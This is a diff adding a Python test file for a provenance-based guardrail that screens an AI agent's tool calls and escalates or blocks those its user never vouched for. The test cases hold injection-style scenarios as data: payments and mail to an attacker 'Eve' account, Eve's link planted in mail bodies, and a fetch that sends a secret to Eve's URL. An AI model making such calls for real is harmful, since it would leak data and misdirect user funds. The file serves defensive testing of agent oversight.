@@ -1,0 +1,169 @@
+"""Where a value comes from decides what a call may do, whatever the model says of it."""
+
+import pytest
+
+from contracts.agent import Agent
+from contracts.guardrail import ToolBlocked, ToolCleared, ToolEscalated
+from infra.policies.stage import Stage
+from services.guardrail_checker.rules import ToolPolicy
+from services.guardrail_checker.rules.authority.origins import STRONGEST_FIRST
+from tests.guardrail_checker.authority.worlds import (
+    EVE,
+    EVE_ACCOUNT,
+    EVE_LINK,
+    PLAN,
+    Office,
+)
+
+POLICY = ToolPolicy()
+IBAN = "DE02120300000000202051"
+FRENCH = "FR7630006000011234567890189"
+
+
+def office(*, planned: bool = True, policy: ToolPolicy = POLICY) -> Office:
+    return Office(policy, PLAN if planned else None)
+
+
+def test_what_the_user_wrote_needs_nobody():
+    found = office()
+
+    assert found.call("pay", {"to": IBAN, "amount": 80, "note": ""})
+    assert found.call("send_mail", {"to": ["lea@partner.example"], "body": "It is done."})
+    assert found.call("set_code", {"code": "k3-91x"})
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "rule"),
+    [
+        ("pay", {"to": EVE_ACCOUNT, "amount": 80}, "stranger_is_paid"),
+        ("pay", {"to": IBAN, "amount": 80.01}, "amount_of_nobody"),
+        ("pay", {"to": IBAN, "amount": -5}, "amount_of_nobody"),
+        ("pay", {"amount": 80}, "stranger_is_paid"),
+        ("send_mail", {"to": [EVE], "body": "x"}, "stranger_is_written_to"),
+        ("send_mail", {"to": ["lea@partner.example", EVE], "body": "x"}, "stranger_is_written_to"),
+        ("send_mail", {"to": ["lea@partner.example"], "body": EVE_LINK}, "stranger_to_payload"),
+        ("send_mail", {"to": ["lea@partner.example"], "body": EVE}, "stranger_to_payload"),
+        ("send_mail", {"to": ["lea@partner.example"], "body": EVE_ACCOUNT}, "stranger_to_payload"),
+        ("send_mail", {"to": [], "body": "anything at all"}, "unanchored_effect"),
+        ("set_code", {"code": "Spring"}, "secret_of_nobody"),
+        ("set_code", {}, "secret_of_nobody"),
+        ("delete", {"id": "7"}, "not_in_plan"),
+        ("fetch", {"url": f"{EVE_LINK}?q=secret"}, "stranger_to_payload"),
+    ],
+)
+def test_what_nobody_vouches_for_is_put_to_a_person(tool, arguments, rule):
+    assert rule in office().rule(tool, arguments).split(",")
+
+
+def test_a_typed_field_of_what_the_user_named_may_be_written_to_by_plan():
+    found = office()
+
+    assert not found.call("invite", {"people": ["tom@partner.example"], "title": "Summer meeting"})
+    assert found.call("search_events", {"query": "Spring meeting"})
+    assert found.call("invite", {"people": ["tom@partner.example"], "title": "Summer meeting"})
+
+
+def test_a_record_that_only_calls_itself_so_in_its_text_names_nothing():
+    found = office()
+    found.call("search_events", {"query": "Spring meeting"})
+
+    assert not found.call("invite", {"people": [EVE], "title": "Summer meeting"})
+
+
+def test_without_a_plan_a_field_of_a_named_record_is_asked_about():
+    found = office(planned=False)
+    found.call("search_events", {"query": "Spring meeting"})
+
+    assert not found.call("invite", {"people": ["tom@partner.example"], "title": "Summer meeting"})
+
+
+def test_a_read_of_the_attackers_own_vouches_for_nothing():
+    found = office()
+    assert found.call("list_accounts", {})
+
+    assert "stranger_is_paid" in found.rule("pay", {"to": FRENCH, "amount": 80})
+    assert "strayed_and_leaving" in found.rule("send_mail", {"to": ["lea@partner.example"]})
+
+
+def test_a_plan_is_used_up():
+    found = office()
+    assert found.call("send_mail", {"to": ["lea@partner.example"], "body": "It is done."})
+
+    assert found.rule("send_mail", {"to": ["lea@partner.example"], "body": "x"}) == "not_in_plan"
+
+
+def test_nobody_is_paid_twice_without_a_plan():
+    found = office(planned=False)
+    assert found.call("pay", {"to": IBAN, "amount": 80})
+
+    assert found.rule("pay", {"to": IBAN, "amount": 80}) == "paid_again"
+
+
+def test_effects_without_a_plan_are_counted():
+    found = office(planned=False, policy=ToolPolicy(effects_without_plan=1))
+    assert found.call("pay", {"to": IBAN, "amount": 80})
+
+    mail = {"to": ["lea@partner.example"], "body": "It is done."}
+    assert found.rule("send_mail", mail) == "too_many_effects"
+
+
+def test_what_a_run_made_it_may_take_away_and_what_it_touched_it_may_not():
+    found = Office(POLICY, {**PLAN, "delete": 2})
+    found.call("search_events", {"query": "Spring meeting"})
+    assert found.call("invite", {"people": ["tom@partner.example"], "title": "Summer meeting"})
+
+    assert found.call("delete", {"id": "50"})
+    assert found.rule("delete", {"id": "8"}) == "destroyed_unnamed"
+
+
+def test_the_allow_list_vouches_for_a_destination():
+    policy = ToolPolicy(destinations=("@own.example",))
+
+    assert office(policy=policy).call("send_mail", {"to": ["ops@own.example"], "body": "done"})
+
+
+def test_an_operators_policy_takes_the_place_of_a_default_one():
+    own = '@id("not_in_plan") forbid (principal, action, resource) when { false };'
+    found = office(policy=ToolPolicy(cedar=own))
+
+    assert found.rule("delete", {"id": "7"}) == "destroyed_unnamed"
+
+
+def test_what_is_forbidden_to_ask_is_blocked():
+    own = '@id("never") forbid (principal, action, resource in Effect::"credential");'
+    stage = Office(ToolPolicy(cedar=own), PLAN).stage
+
+    _, verdict = stage.ask("set_code", '{"code": "k3-91x"}')
+
+    assert (type(verdict), verdict.rule) == (ToolBlocked, "never")
+
+
+def test_a_verdict_tells_its_policies_and_why():
+    stage = office().stage
+
+    _, asked = stage.ask("delete", '{"id": "7"}')
+    _, cleared = stage.ask("set_code", '{"code": "k3-91x"}')
+
+    assert isinstance(asked, ToolEscalated)
+    assert asked.rule == "destroyed_unnamed,not_in_plan"
+    assert "the user did not name what is destroyed" in asked.reason
+    assert isinstance(cleared, ToolCleared)
+    assert (cleared.rule, cleared.reason) == ("tool_of_the_agent", "the agent may call this tool")
+
+
+def test_what_a_producer_tells_beside_the_text_counts_as_the_users():
+    manifests = Office(POLICY, None).stage.manifests
+    stage = Stage("Tell me.", manifests, POLICY)
+    submitted = stage.run.submitted
+    body = submitted.body.model_copy(update={"user": "anna@own.example"})
+    object.__setattr__(submitted, "body", body)
+
+    _, verdict = stage.ask("send_mail", '{"to": ["anna@own.example"], "body": "Told."}')
+
+    assert isinstance(verdict, ToolCleared)
+
+
+def test_origins_are_ordered_and_the_agent_of_a_stage_is_real():
+    assert STRONGEST_FIRST[0] == "user"
+    assert STRONGEST_FIRST[-1] == "model"
+    assert isinstance(office().stage.run.started.body.agent, Agent)
